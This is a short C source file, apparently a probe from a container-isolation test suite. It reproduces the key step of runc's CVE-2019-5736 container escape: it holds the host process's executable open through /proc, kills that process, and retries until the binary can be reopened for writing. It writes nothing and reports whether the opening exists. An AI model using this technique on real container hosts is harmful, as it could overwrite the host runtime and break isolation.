/* SPDX-License-Identifier: Apache-2.0 */
/* Holds the program of the process that started it and reopens it for writing once nobody executes it (runc's CVE-2019-5736). Nothing is written. */
#include "../attack.h"
#include <signal.h>

int main(int argc, char **argv) {
  int pid = atoi(argument(argc, argv, 1));
  char path[64], self[64];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int held_open = (int)step(open(path, O_PATH), path);
  /* The stand-in ends; what started a cell does not, or the cell would. */
  kill(pid, SIGTERM);
  snprintf(self, sizeof self, "/proc/self/fd/%d", held_open);
  for (int i = 0; i < 50; i++) {
    if (open(self, O_WRONLY) >= 0)
      worked("%s was opened for writing", path);
    if (errno != ETXTBSY)
      break;
    usleep(10000);
  }
  refused("opening it for writing");
}
